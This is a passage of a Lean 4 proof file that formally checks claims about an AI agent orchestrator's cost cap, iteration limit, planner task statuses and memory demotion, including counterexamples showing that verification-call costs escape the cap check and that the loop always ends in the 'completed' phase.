      next => exact ih _ _ _ _ _ hc
    | ok r =>
      have hr := hmain _ _ hm
      have hover : cost + r.cost > cap := by linarith
      simp only []
      rw [if_pos hover]
      refine ⟨rfl, ?_⟩
      show (0:ℚ) ≤ cost + r.cost
      linarith

theorem executeTask_no_success (env : ExecEnv) (cap : ℚ) (hcap : 0 ≤ cap)
    (hmain : ∀ n r, env.main n = Except.ok r → cap < r.cost) :
    (executeTask env cap).success = false ∧ 0 ≤ (executeTask env cap).cost :=
  executeTaskGo_no_success env cap 5 hcap hmain 5 0 0 0 [] "" le_rfl

end EnhancedExecutor

/-- Claim C5, counterexample: with a session cap of 1, a main call
costing 0.6 passes the only cost check, and the verification call (also
0.6) pushes the accumulated cost to 1.2 above the cap — yet the task
returns success = true, because no check follows the verification call.
Under the claim the task should have been aborted with success = false
and a cost-limit error as soon as the accumulated cost exceeded the
cap. -/
theorem EnhancedExecutor.cost_check_counterexample :
    (EnhancedExecutor.executeTask EnhancedExecutor.completingEnv 1).success = true ∧
    (EnhancedExecutor.executeTask EnhancedExecutor.completingEnv 1).cost > 1 ∧
    (EnhancedExecutor.executeTask EnhancedExecutor.completingEnv 1).error = none := by
  have hsw : EnhancedExecutor.startsWithComplete "COMPLETE: ok" = true := by decide
  have hlen : (0 : Nat) < ("done" : String).length := by decide
  refine ⟨?_, ?_, ?_⟩ <;>
    norm_num [EnhancedExecutor.executeTask, EnhancedExecutor.executeTaskGo,
      EnhancedExecutor.completingEnv, hsw, hlen]

/-- Claim C5, amended: the cost accumulator is checked against the cap
after the *main* model call of each attempt — a first main call whose
cost exceeds the cap aborts the task immediately with success = false
and a cost-limit error; the verification call's cost is accumulated but
not checked, so a task can complete successfully with accumulated cost
above the cap (see the counterexample). -/
theorem EnhancedExecutor.cost_check_after_main_call (env : EnhancedExecutor.ExecEnv)
    (cap : ℚ) (r : EnhancedExecutor.ChatResp)
    (hmain : env.main 1 = Except.ok r) (hcost : r.cost > cap) :
    EnhancedExecutor.executeTask env cap =
      { success := false, output := none,
        error := some (EnhancedExecutor.ExecError.costLimit r.cost cap),
        toolCalls := [], tokensUsed := r.tokensUsed, cost := r.cost } := by
  unfold EnhancedExecutor.executeTask
  rw [show (5:Nat) = 4 + 1 from rfl]
  rw [EnhancedExecutor.executeTaskGo]
  simp only [zero_add]
  rw [hmain]
  simp only [zero_add]
  rw [if_pos hcost]

/-- Claim C5, witness for the amended theorem: every call of
`overCapEnv` costs 2, above the cap of 1, so the first attempt aborts. -/
theorem EnhancedExecutor.cost_check_after_main_call_witness :
    EnhancedExecutor.overCapEnv.main 1 =
      Except.ok { content := "x", tokensUsed := 7, cost := 2, toolCalls := [] } ∧
    ((2 : ℚ) > 1) ∧
    EnhancedExecutor.executeTask EnhancedExecutor.overCapEnv 1 =
      { success := false, output := none,
        error := some (EnhancedExecutor.ExecError.costLimit 2 1),
        toolCalls := [], tokensUsed := 7, cost := 2 } :=
  ⟨rfl, one_lt_two,
    EnhancedExecutor.cost_check_after_main_call EnhancedExecutor.overCapEnv 1
      { content := "x", tokensUsed := 7, cost := 2, toolCalls := [] } rfl one_lt_two⟩

namespace Planner

theorem mapTaskData_pending (taskId : Nat → String) (now : Nat) (ts : List TaskData) :
    ∀ t ∈ mapTaskData taskId now ts, t.status = Status.pending := by
  intro t ht
  obtain ⟨i, hi, hf⟩ := List.mem_mapIdx.mp ht
  rw [← hf]

theorem createPlan_pending (objective : String) (parsed : Option PlanData)
    (planId : String) (taskId : Nat → String) (now : Nat) :
    ∀ t ∈ (createPlan objective parsed planId taskId now).tasks,
      t.status = Status.pending := by
  cases parsed with
  | none =>
    intro t ht
    simp [createPlan] at ht
    rw [ht]
  | some pd =>
    intro t ht
    exact mapTaskData_pending taskId now pd.tasks t ht

theorem createPlan_tasks_ne_nil (objective : String) (parsed : Option PlanData)
    (planId : String) (taskId : Nat → String) (now : Nat)
    (h : ∀ pd, parsed = some pd → pd.tasks ≠ []) :
    (createPlan objective parsed planId taskId now).tasks ≠ [] := by
  cases parsed with
  | none => simp [createPlan]
  | some pd =>
    have := h pd rfl
    simp only [createPlan, mapTaskData, ne_eq, List.mapIdx_eq_nil_iff]
    exact this

theorem revisePlan_no_completed (currentPlan : Plan) (parsed : Option PlanData)
    (planId : String) (taskId : Nat → String) (now : Nat)
    (h : ∀ t ∈ currentPlan.tasks, t.status ≠ Status.completed) :
    ∀ t ∈ (revisePlan currentPlan parsed planId taskId now).tasks,
      t.status ≠ Status.completed := by
  cases parsed with
  | none => exact h
  | some pd =>
    intro t ht
    rw [mapTaskData_pending taskId now pd.tasks t ht]
    exact fun hc => Status.noConfusion hc

theorem updateTasks_status (tasks : List Task) (taskId : String) (status : Status)
    (now : Nat) :
    ∀ t ∈ updateTasks tasks taskId status now,
      t.status = status ∨ ∃ v ∈ tasks, t.status = v.status := by
  induction tasks with
  | nil => intro t ht; simp [updateTasks] at ht
  | cons u us ih =>
    intro t ht
    rw [updateTasks] at ht
    split at ht
    next =>
      rcases List.mem_cons.mp ht with h | h
      · left; rw [h]
      · right; exact ⟨t, List.mem_cons_of_mem u h, rfl⟩
    next =>
      rcases List.mem_cons.mp ht with h | h
      · right; exact ⟨u, List.mem_cons_self u us, by rw [h]⟩
      · rcases ih t h with h' | ⟨v, hv, hv'⟩
        · exact Or.inl h'
        · exact Or.inr ⟨v, List.mem_cons_of_mem u hv, hv'⟩

theorem updateTaskStatus_no_completed (plan : Plan) (taskId : String) (status : Status)
    (now : Nat) (hst : status ≠ Status.completed)
    (h : ∀ t ∈ plan.tasks, t.status ≠ Status.completed) :
    ∀ t ∈ (updateTaskStatus plan taskId status now).tasks,
      t.status ≠ Status.completed := by
  intro t ht
  rcases updateTasks_status plan.tasks taskId status now t ht with h' | ⟨v, hv, hv'⟩
  · rw [h']; exact hst
  · rw [hv']; exact h v hv

theorem isPlanComplete_false_of_pending (plan : Plan) (hne : plan.tasks ≠ [])
    (hp : ∀ t ∈ plan.tasks, t.status = Status.pending) :
    isPlanComplete plan = false := by
  cases htasks : plan.tasks with
  | nil => exact absurd htasks hne
  | cons t ts =>
    have ht := hp t (htasks ▸ List.mem_cons_self t ts)
    rw [isPlanComplete, htasks]
    simp [ht]

end Planner

namespace Orchestrator

theorem finishLoop_currentPhase (s : St) : (finishLoop s).currentPhase = Phase.completed :=
  rfl

theorem loopRun_phase_completed (cfg : OrchConfig) (env : OrchEnv) (objective : String) :
    ∀ (fuel : Nat) (s : St),
      ((loopRun cfg env objective fuel s).1).currentPhase = Phase.completed := by
  intro fuel
  induction fuel with
  | zero => intro s; rfl
  | succ fuel ih =>
    intro s
    rw [loopRun]
    split
    next => rfl
    next =>
      split
      next => rfl
      next =>
        split
        next => rfl
        next s' _ => exact ih s'

theorem loopRun_bodyRuns_le (cfg : OrchConfig) (env : OrchEnv) (objective : String) :
    ∀ (fuel : Nat) (s : St), (loopRun cfg env objective fuel s).2 ≤ fuel := by
  intro fuel
  induction fuel with
  | zero => intro s; exact le_rfl
  | succ fuel ih =>
    intro s
    rw [loopRun]
    split
    next => omega
    next =>
      split
      next => omega
      next =>
        split
        next => omega
        next s' _ =>
          have := ih s'
          simp only []
          omega

theorem thinkPhase_ok (env : OrchEnv) (i : Nat) (s : St) (u : ChatUsage)
    (h : env.think i = Except.ok u) :
    thinkPhase env i s =
      { s with currentPhase := Phase.thinking,
               totalTokensUsed := s.totalTokensUsed + u.tokensUsed,
               totalCost := s.totalCost + u.cost,
               events := s.events ++ [Event.phaseChanged Phase.thinking,
                                      Event.thinkingCompleted] } := by
  simp [thinkPhase, h]

theorem planPhase_ok (env : OrchEnv) (objective : String) (i : Nat) (s : St)
    (parsed : Option Planner.PlanData) (h : env.planChat i = Except.ok parsed) :
    planPhase env objective i s =
      ({ s with currentPhase := Phase.planning,
                currentPlan := some (Planner.createPlan objective parsed (env.planId i)
                  (env.planTaskId i) (env.time i)),
                events := s.events ++ [Event.phaseChanged Phase.planning,
                  Event.planCreated ((Planner.createPlan objective parsed (env.planId i)
                    (env.planTaskId i) (env.time i)).id)] }, false) := by
  simp [planPhase, h]

theorem planPhase_error (env : OrchEnv) (objective : String) (i : Nat) (s : St)
    (msg : String) (h : env.planChat i = Except.error msg) :
    planPhase env objective i s =
      ({ s with currentPhase := Phase.planning,
                events := s.events ++ [Event.phaseChanged Phase.planning] }, true) := by
  simp [planPhase, h]


end Orchestrator

namespace Orchestrator

theorem actPhase_no_plan (env : OrchEnv) (cap : ℚ) (i : Nat) (s : St)
    (h : s.currentPlan = none) :
    actPhase env cap i s =
      { s with currentPhase := Phase.executing,
               events := s.events ++ [Event.phaseChanged Phase.executing] } := by
  simp [actPhase, h]

theorem actPhase_no_task (env : OrchEnv) (cap : ℚ) (i : Nat) (s : St)
    (plan : Planner.Plan) (hp : s.currentPlan = some plan)
    (hn : Planner.getNextTask plan = none) :
    actPhase env cap i s =
      { s with currentPhase := Phase.executing,
               events := s.events ++ [Event.phaseChanged Phase.executing] } := by
  simp [actPhase, hp, hn]

theorem actPhase_task_failed (env : OrchEnv) (cap : ℚ) (i : Nat) (s : St)
    (plan : Planner.Plan) (t : Planner.Task) (hp : s.currentPlan = some plan)
    (hn : Planner.getNextTask plan = some t)
    (hfail : (EnhancedExecutor.executeTask (env.execEnv i) cap).success = false) :
    actPhase env cap i s =
      { s with currentPhase := Phase.executing,
               currentPlan := some (Planner.updateTaskStatus
                 (Planner.updateTaskStatus plan t.id Planner.Status.in_progress (env.time i))
                 t.id Planner.Status.failed (env.time i)),
               currentTask := none,
               totalTokensUsed := s.totalTokensUsed +
                 (EnhancedExecutor.executeTask (env.execEnv i) cap).tokensUsed,
               totalCost := s.totalCost +
                 (EnhancedExecutor.executeTask (env.execEnv i) cap).cost,
               events := s.events ++ [Event.phaseChanged Phase.executing,
                 Event.taskStarted t.id, Event.taskFailed t.id] } := by
  simp [actPhase, hp, hn, hfail]

theorem reflectPhase_props (env : OrchEnv) (i : Nat) (s : St)
    (hnc : ∀ p, s.currentPlan = some p →
      ∀ t ∈ p.tasks, t.status ≠ Planner.Status.completed) :
    (reflectPhase env i s).totalCost = s.totalCost ∧
    (∃ es, (reflectPhase env i s).events = s.events ++ es ∧
      ∀ tid, Event.taskCompleted tid ∉ es) ∧
    (∀ p, (reflectPhase env i s).currentPlan = some p →
      ∀ t ∈ p.tasks, t.status ≠ Planner.Status.completed) := by
  unfold reflectPhase
  cases hp : s.currentPlan with
  | none =>
    simp only [hp]
    exact ⟨by simp, ⟨[Event.phaseChanged Phase.reflecting], by simp, by simp⟩,
      fun p hpp => hnc p (by simpa using hpp)⟩
  | some plan =>
    simp only [hp]
    split
    next =>
      exact ⟨by simp, ⟨[Event.phaseChanged Phase.reflecting], by simp, by simp⟩,
        fun p hpp => hnc p (by rw [hp]; simpa using hpp)⟩
    next =>
      split
      next =>
        cases hr : env.reviseChat i with
        | error msg =>
          simp only [hr]
          exact ⟨by simp, ⟨[Event.phaseChanged Phase.reflecting, Event.reflectionCompleted],
            by simp, by simp⟩,
            fun p hpp => hnc p (by rw [hp]; simpa using hpp)⟩
        | ok parsed =>
          simp only [hr]
          refine ⟨by simp, ⟨[Event.phaseChanged Phase.reflecting, Event.reflectionCompleted,
            Event.planRevised ((Planner.revisePlan plan parsed (env.reviseId i)
              (env.reviseTaskId i) (env.time i)).id)], by simp, by simp⟩, ?_⟩
          intro p hpp
          simp only [Option.some.injEq] at hpp
          rw [← hpp]
          exact Planner.revisePlan_no_completed plan parsed _ _ _ (hnc plan hp)
      next =>
        exact ⟨by simp, ⟨[Event.phaseChanged Phase.reflecting, Event.reflectionCompleted],
          by simp, by simp⟩,
          fun p hpp => hnc p (by rw [hp]; simpa using hpp)⟩

theorem iterationBody_blowup (env : OrchEnv) (objective : String) (cap : ℚ) (i : Nat)
    (s : St) (hcap : 0 ≤ cap)
    (hthink : ∃ u, env.think i = Except.ok u ∧ cap < u.cost)
    (hexec : ∀ n r, (env.execEnv i).main n = Except.ok r → cap < r.cost)
    (hplanOk : ∀ pd, env.planChat i = Except.ok (some pd) → pd.tasks ≠ [])
    (hplan_none : s.currentPlan = none)
    (hcost0 : 0 ≤ s.totalCost)
    (hev : ∀ tid, Event.taskCompleted tid ∉ s.events) :
    ∃ s', iterationBody env objective cap i s = StepExit.cont s' ∧
      cap < s'.totalCost ∧
      (∀ tid, Event.taskCompleted tid ∉ s'.events) ∧
      (∀ p, s'.currentPlan = some p →
        ∀ t ∈ p.tasks, t.status ≠ Planner.Status.completed) := by
  obtain ⟨u, hu, huc⟩ := hthink
  unfold iterationBody
  rw [thinkPhase_ok env i s u hu]
  simp only [hplan_none, Option.isNone_none, Bool.true_or, if_true]
  cases hpc : env.planChat i with
  | error msg =>
    rw [planPhase_error env objective i _ msg hpc]
    simp only []
    refine ⟨_, rfl, ?_, ?_, ?_⟩
    · show cap < s.totalCost + u.cost
      linarith
    · intro tid htid
      simp only [List.append_assoc, List.mem_append, List.mem_cons,
        List.not_mem_nil] at htid
      rcases htid with h | h
      · exact hev tid h
      · simp at h
    · intro p hpp
      simp only [hplan_none] at hpp
      exact absurd hpp (by simp)
  | ok parsed =>
    rw [planPhase_ok env objective i _ parsed hpc]
    simp only []
    set newPlan := Planner.createPlan objective parsed (env.planId i) (env.planTaskId i)
      (env.time i) with hnp
    have hpend2 : ∀ t ∈ newPlan.tasks, t.status = Planner.Status.pending := by
      rw [hnp]
      exact Planner.createPlan_pending objective parsed (env.planId i) (env.planTaskId i)
        (env.time i)
    have hne : newPlan.tasks ≠ [] := by
      apply Planner.createPlan_tasks_ne_nil
      intro pd hpd
      exact hplanOk pd (by rw [hpc, hpd])
    have hcomp : Planner.isPlanComplete newPlan = false :=
      Planner.isPlanComplete_false_of_pending newPlan hne hpend2
    rw [hcomp]
    simp only [Bool.false_eq_true, if_false]
    set s2 : St :=
      { s with currentPhase := Phase.planning,
               currentPlan := some newPlan,
               totalTokensUsed := s.totalTokensUsed + u.tokensUsed,
               totalCost := s.totalCost + u.cost,
               events := (s.events ++ [Event.phaseChanged Phase.thinking,
                 Event.thinkingCompleted]) ++ [Event.phaseChanged Phase.planning,
                 Event.planCreated newPlan.id] } with hs2
    have hnc2 : ∀ p, s2.currentPlan = some p →
        ∀ t ∈ p.tasks, t.status ≠ Planner.Status.completed := by
      intro p hpp
      rw [hs2] at hpp
      simp only [Option.some.injEq] at hpp
      intro t ht
      rw [← hpp] at ht
      rw [hpend2 t ht]
      exact fun hcon => Planner.Status.noConfusion hcon
    have hfail := EnhancedExecutor.executeTask_no_success (env.execEnv i) cap hcap hexec
    have hact : s2.totalCost ≤ (actPhase env cap i s2).totalCost ∧
        ((actPhase env cap i s2).events = s2.events ∨
          (actPhase env cap i s2).events =
            s2.events ++ [Event.phaseChanged Phase.executing] ∨
          ∃ tid, (actPhase env cap i s2).events = s2.events ++
            [Event.phaseChanged Phase.executing, Event.taskStarted tid,
             Event.taskFailed tid]) ∧
        (∀ p, (actPhase env cap i s2).currentPlan = some p →
          ∀ t ∈ p.tasks, t.status ≠ Planner.Status.completed) := by
      have hp2 : s2.currentPlan = some newPlan := by rw [hs2]
      cases hn : Planner.getNextTask newPlan with
      | none =>
        rw [actPhase_no_task env cap i s2 newPlan hp2 hn]
        refine ⟨le_rfl, Or.inr (Or.inl rfl), ?_⟩
        intro p hpp
        simp only [Option.some.injEq] at hpp
        exact hpp ▸ hnc2 newPlan hp2
      | some t =>
        rw [actPhase_task_failed env cap i s2 newPlan t hp2 hn hfail.1]
        refine ⟨by simpa using hfail.2, Or.inr (Or.inr ⟨t.id, rfl⟩), ?_⟩
        intro p hpp
        simp only [Option.some.injEq] at hpp
        rw [← hpp]
        apply Planner.updateTaskStatus_no_completed _ _ _ _
          (fun hcon => Planner.Status.noConfusion hcon)
        apply Planner.updateTaskStatus_no_completed _ _ _ _
          (fun hcon => Planner.Status.noConfusion hcon)
        exact hnc2 newPlan hp2
    obtain ⟨hrc, hre, hrp⟩ := reflectPhase_props env i (actPhase env cap i s2) hact.2.2
    refine ⟨_, rfl, ?_, ?_, hrp⟩
    · rw [hrc]
      have h2 : cap < s2.totalCost := by
        rw [hs2]
        show cap < s.totalCost + u.cost
        linarith
      exact lt_of_lt_of_le h2 hact.1
    · intro tid htid
      obtain ⟨es, hes, hnes⟩ := hre
      rw [hes] at htid
      rcases List.mem_append.mp htid with h | h
      · rcases hact.2.1 with ha | ha | ⟨tid2, ha⟩ <;> rw [ha] at h
        · rw [hs2] at h
          simp only [List.append_assoc, List.mem_append, List.mem_cons,
            List.not_mem_nil] at h
          rcases h with h | h
          · exact hev tid h
          · simp at h
        · rcases List.mem_append.mp h with h | h
          · rw [hs2] at h
            simp only [List.append_assoc, List.mem_append, List.mem_cons,
              List.not_mem_nil] at h
            rcases h with h | h
            · exact hev tid h
            · simp at h
          · simp at h
        · rcases List.mem_append.mp h with h | h
          · rw [hs2] at h
            simp only [List.append_assoc, List.mem_append, List.mem_cons,
              List.not_mem_nil] at h
            rcases h with h | h
            · exact hev tid h
            · simp at h
          · simp at h
      · exact hnes tid h

theorem loopRun_cost_limit (cfg : OrchConfig) (env : OrchEnv) (objective : String)
    (f : Nat) (s : St)
    (hcap : 0 ≤ cfg.maxCostPerSession)
    (helapsed : ∀ i, env.elapsed i ≤ cfg.maxExecutionTimeMs)
    (hthink : ∀ i, ∃ u, env.think i = Except.ok u ∧ cfg.maxCostPerSession < u.cost)
    (hexec : ∀ i n r, (env.execEnv i).main n = Except.ok r →
      cfg.maxCostPerSession < r.cost)
    (hplanOk : ∀ i pd, env.planChat i = Except.ok (some pd) → pd.tasks ≠ [])
    (hplan : s.currentPlan = none) (hcost : s.totalCost = 0)
    (hev : ∀ tid, Event.taskCompleted tid ∉ s.events) :
    Event.costLimitReached ∈ ((loopRun cfg env objective (f + 2) s).1).events ∧
    (∀ tid, Event.taskCompleted tid ∉ ((loopRun cfg env objective (f + 2) s).1).events) := by
  rw [show f + 2 = (f + 1) + 1 from rfl, loopRun]
  simp only []
  rw [if_neg (not_lt.mpr (helapsed (s.iterationCount + 1)))]
  rw [if_neg (show ¬ s.totalCost > cfg.maxCostPerSession from by
    rw [hcost]; exact not_lt.mpr hcap)]
  obtain ⟨s', hbody, hclt, hev', hnc'⟩ :=
    iterationBody_blowup env objective cfg.maxCostPerSession (s.iterationCount + 1)
      { s with iterationCount := s.iterationCount + 1,
               lastActivity := env.elapsed (s.iterationCount + 1) }
      hcap (hthink _) (hexec _) (hplanOk _) hplan (by simp [hcost]) hev
  rw [hbody]
  simp only []
  rw [loopRun]
  simp only []
  rw [if_neg (not_lt.mpr (helapsed (s'.iterationCount + 1)))]
  rw [if_pos hclt]
  refine ⟨?_, ?_⟩
  · simp [finishLoop]
  · intro tid htid
    simp only [finishLoop, List.mem_append, List.mem_cons, List.not_mem_nil] at htid
    rcases htid with h | h
    · exact hev' tid h
    · simp at h
theorem processDirective_cost_limit (cfg : OrchConfig) (env : OrchEnv) (objective : String)
    (h3 : cfg.maxIterations = 3)
    (hcap : 0 ≤ cfg.maxCostPerSession)
    (helapsed : ∀ i, env.elapsed i ≤ cfg.maxExecutionTimeMs)
    (hthink : ∀ i, ∃ u, env.think i = Except.ok u ∧ cfg.maxCostPerSession < u.cost)
    (hexec : ∀ i n r, (env.execEnv i).main n = Except.ok r →
      cfg.maxCostPerSession < r.cost)
    (hplanOk : ∀ i pd, env.planChat i = Except.ok (some pd) → pd.tasks ≠ []) :
    Event.costLimitReached ∈ (processDirective cfg env objective initState).events ∧
    (∀ tid, Event.taskCompleted tid ∉
      (processDirective cfg env objective initState).events) := by
  have hloop := loopRun_cost_limit cfg env objective 1 (resetState initState)
    hcap helapsed hthink hexec hplanOk rfl rfl
    (by simp [resetState, initState])
  have heq : processDirective cfg env objective initState =
      { autonomousLoop cfg env objective (resetState initState) with
        isRunning := false,
        events := (autonomousLoop cfg env objective (resetState initState)).events ++
          [Event.agentStopped] } := rfl
  rw [heq]
  simp only [autonomousLoop]
  rw [show cfg.maxIterations - (resetState initState).iterationCount = 1 + 2 from by
    rw [h3]; rfl]
  constructor
  · exact List.mem_append_left _ hloop.1
  · intro tid htid
    rcases List.mem_append.mp htid with h | h
    · exact hloop.2 tid h
    · simp at h

end Orchestrator

/-- Claim C3: with maxIterations = 3 the loop body is never entered a
4th time, whatever the environment; and when every LLM call of the
environment succeeds with a cost above the (non-negative) session cost
cap, while the wall-clock budget is not exceeded and parsed plans are
non-empty, the run from the initial state emits `cost_limit_reached`
and halts without ever completing a task. -/
theorem Orchestrator.budget_enforcement (cfg : Orchestrator.OrchConfig)
    (env : Orchestrator.OrchEnv) (objective : String)
    (h3 : cfg.maxIterations = 3) :
    (∀ s : Orchestrator.St, s.iterationCount = 0 →
      Orchestrator.loopBodyRuns cfg env objective s ≤ 3) ∧
    (0 ≤ cfg.maxCostPerSession →
      (∀ i, env.elapsed i ≤ cfg.maxExecutionTimeMs) →
      (∀ i, ∃ u, env.think i = Except.ok u ∧ cfg.maxCostPerSession < u.cost) →
      (∀ i n r, (env.execEnv i).main n = Except.ok r → cfg.maxCostPerSession < r.cost) →
      (∀ i pd, env.planChat i = Except.ok (some pd) → pd.tasks ≠ []) →
      Orchestrator.Event.costLimitReached ∈
        (Orchestrator.processDirective cfg env objective Orchestrator.initState).events ∧
      (∀ tid, Orchestrator.Event.taskCompleted tid ∉
        (Orchestrator.processDirective cfg env objective Orchestrator.initState).events)) := by
  constructor
  · intro s h0
    unfold Orchestrator.loopBodyRuns
    rw [h0, h3]
    exact Orchestrator.loopRun_bodyRuns_le cfg env objective 3 s
  · intro hcap helapsed hthink hexec hplanOk
    exact Orchestrator.processDirective_cost_limit cfg env objective h3 hcap helapsed
      hthink hexec hplanOk

/-- Claim C3, witness: `threeIterConfig` (3 iterations, cap 1) and
`costlyEnv` (every call succeeds at cost 2). -/
theorem Orchestrator.budget_enforcement_witness :
    Orchestrator.threeIterConfig.maxIterations = 3 ∧
    ((0 : ℚ) ≤ Orchestrator.threeIterConfig.maxCostPerSession) ∧
    (∀ s : Orchestrator.St, s.iterationCount = 0 →
      Orchestrator.loopBodyRuns Orchestrator.threeIterConfig Orchestrator.costlyEnv
        "objective" s ≤ 3) ∧
    Orchestrator.Event.costLimitReached ∈
      (Orchestrator.processDirective Orchestrator.threeIterConfig Orchestrator.costlyEnv
        "objective" Orchestrator.initState).events ∧
    (∀ tid, Orchestrator.Event.taskCompleted tid ∉
      (Orchestrator.processDirective Orchestrator.threeIterConfig Orchestrator.costlyEnv
        "objective" Orchestrator.initState).events) := by
  have h := Orchestrator.budget_enforcement Orchestrator.threeIterConfig
    Orchestrator.costlyEnv "objective" rfl
  have hb := h.2 zero_le_one (fun _ => Nat.zero_le _)
    (fun _ => ⟨{ content := "thoughts", tokensUsed := 1, cost := 2 }, rfl, one_lt_two⟩)
    (fun _ _ r hr => by
      rw [show r = { content := "x", tokensUsed := 7, cost := 2, toolCalls := [] } from
        (Except.ok.inj hr).symm]
      exact one_lt_two)
    (fun _ pd hpd => Option.noConfusion (Except.ok.inj hpd))
  exact ⟨rfl, zero_le_one, h.1, hb.1, hb.2⟩

/-- Claim C4, counterexample: with `maxIterations = 0` the loop exits by
iteration exhaustion without any plan ever existing (no `plan_completed`
event, no plan), yet `currentPhase` ends as `completed`, not `idle` —
the code sets `completed` unconditionally after the loop, whatever the
exit reason. -/
theorem Orchestrator.loop_exhaustion_phase_counterexample :
    (Orchestrator.processDirective Orchestrator.zeroIterConfig Orchestrator.failingEnv
      "directive" Orchestrator.initState).currentPhase = Orchestrator.Phase.completed ∧
    (Orchestrator.processDirective Orchestrator.zeroIterConfig Orchestrator.failingEnv
      "directive" Orchestrator.initState).currentPhase ≠ Orchestrator.Phase.idle ∧
    (Orchestrator.processDirective Orchestrator.zeroIterConfig Orchestrator.failingEnv
      "directive" Orchestrator.initState).currentPlan = none ∧
    (Orchestrator.processDirective Orchestrator.zeroIterConfig Orchestrator.failingEnv
      "directive" Orchestrator.initState).events =
      [Orchestrator.Event.directiveReceived, Orchestrator.Event.agentStopped] :=
  ⟨rfl, fun h => Orchestrator.Phase.noConfusion h, rfl, rfl⟩

/-- Claim C4, amended: after the autonomous loop exits — for any reason,
including iteration/time/cost exhaustion — `currentPhase` is `completed`
(set unconditionally after the `while` loop); `idle` is entered only by
`stop()` (or by `processDirective`'s error handler). -/
theorem Orchestrator.loop_exit_phase_completed :
    (∀ (cfg : Orchestrator.OrchConfig) (env : Orchestrator.OrchEnv) (objective : String)
      (s : Orchestrator.St),
      (Orchestrator.autonomousLoop cfg env objective s).currentPhase =
        Orchestrator.Phase.completed) ∧
    (∀ (cfg : Orchestrator.OrchConfig) (env : Orchestrator.OrchEnv) (directive : String)
      (s : Orchestrator.St), s.isRunning = false →
      (Orchestrator.processDirective cfg env directive s).currentPhase =
        Orchestrator.Phase.completed) ∧
    (∀ s : Orchestrator.St, (Orchestrator.stop s).currentPhase = Orchestrator.Phase.idle) := by
  refine ⟨?_, ?_, fun s => rfl⟩
  · intro cfg env objective s
    exact Orchestrator.loopRun_phase_completed cfg env objective _ s
  · intro cfg env directive s h
    unfold Orchestrator.processDirective
    rw [h]
    simp only [Bool.false_eq_true, if_false]
    exact Orchestrator.loopRun_phase_completed cfg env directive _ _

/-- Claim C4, witness for the amended theorem: a run from the initial
(idle) state ends with phase `completed`. -/
theorem Orchestrator.loop_exit_phase_completed_witness :
    Orchestrator.initState.isRunning = false ∧
    (Orchestrator.processDirective Orchestrator.zeroIterConfig Orchestrator.failingEnv
      "directive" Orchestrator.initState).currentPhase = Orchestrator.Phase.completed :=
  ⟨rfl, Orchestrator.loop_exit_phase_completed.2.1 Orchestrator.zeroIterConfig
    Orchestrator.failingEnv "directive" Orchestrator.initState rfl⟩

/-- Claim C9, witness: the zero-task plan is vacuously complete. -/
theorem Planner.isPlanComplete_iff_and_empty_witness :
    Planner.emptyPlan.tasks = [] ∧ Planner.isPlanComplete Planner.emptyPlan = true :=
  ⟨rfl, (Planner.isPlanComplete_iff_and_empty Planner.emptyPlan).2 rfl⟩

/-- Claim C6, witness: the fallback plan for objective `obj`. -/
theorem Planner.createPlan_parse_failure_witness :
    ({ id := "t", description := "obj", status := .pending, priority := 5,
       dependencies := [], acceptanceCriteria := ["Task completed successfully"],
       createdAt := 0, updatedAt := 0 } : Planner.Task) ∈
      (Planner.createPlan "obj" none "p" (fun _ => "t") 0).tasks ∧
    (Planner.createPlan "obj" none "p" (fun _ => "t") 0).tasks.length = 1 ∧
    ({ id := "t", description := "obj", status := .pending, priority := 5,
       dependencies := [], acceptanceCriteria := ["Task completed successfully"],
       createdAt := 0, updatedAt := 0 } : Planner.Task).description = "obj" ∧
    ({ id := "t", description := "obj", status := .pending, priority := 5,
       dependencies := [], acceptanceCriteria := ["Task completed successfully"],
       createdAt := 0, updatedAt := 0 } : Planner.Task).acceptanceCriteria ≠ [] :=
  ⟨by decide, (Planner.createPlan_parse_failure "obj" "p" (fun _ => "t") 0).1,
    ((Planner.createPlan_parse_failure "obj" "p" (fun _ => "t") 0).2 _ (by decide)).1,
    ((Planner.createPlan_parse_failure "obj" "p" (fun _ => "t") 0).2 _ (by decide)).2⟩

unseal List.merge List.mergeSort in
/-- Claim C2, witness: in `depPlan` the pending task `b` depends on the
completed task `a` and is returned by `getNextTask`. -/
theorem Planner.getNextTask_dependency_safety_witness :
    Planner.getNextTask Planner.depPlan = some Planner.blockedTask ∧
    (Planner.blockedTask ∈ Planner.depPlan.tasks ∧
     Planner.blockedTask.status = Planner.Status.pending ∧
     ∀ depId ∈ Planner.blockedTask.dependencies,
       ∃ dep ∈ Planner.depPlan.tasks, dep.id = depId ∧
         dep.status = Planner.Status.completed) :=
  ⟨by decide,
    Planner.getNextTask_dependency_safety Planner.depPlan Planner.blockedTask (by decide)⟩

/-- Claim C8, witness for the amended theorem: a full ten-entry working
memory overflows on the next insertion and the oldest entry is demoted. -/
theorem MemoryManager.workingMemory_bound_and_demotion_witness :
    MemoryManager.tenEntryState.workingMemory.length =
      MemoryManager.maxWorkingMemorySize ∧
    (∃ removed rest, MemoryManager.tenEntryState.workingMemory = removed :: rest ∧
      ((MemoryManager.addToWorkingMemory MemoryManager.tenEntryState "c" [] "uW" "uE"
          0).2).workingMemory =
        rest ++ [(MemoryManager.addToWorkingMemory MemoryManager.tenEntryState "c" []
          "uW" "uE" 0).1] ∧
      (removed.importance > 1/2 →
        ∃ m ∈ ((MemoryManager.addToWorkingMemory MemoryManager.tenEntryState "c" []
            "uW" "uE" 0).2).episodicMemory,
          m.type = MemoryManager.MemType.episodic ∧ m.content = removed.content) ∧
      (removed.importance ≤ 1/2 →
        ((MemoryManager.addToWorkingMemory MemoryManager.tenEntryState "c" [] "uW" "uE"
            0).2).episodicMemory = MemoryManager.tenEntryState.episodicMemory)) :=
  ⟨by decide, MemoryManager.workingMemory_bound_and_demotion.2.1
    MemoryManager.tenEntryState "c" [] "uW" "uE" 0 (by decide)⟩
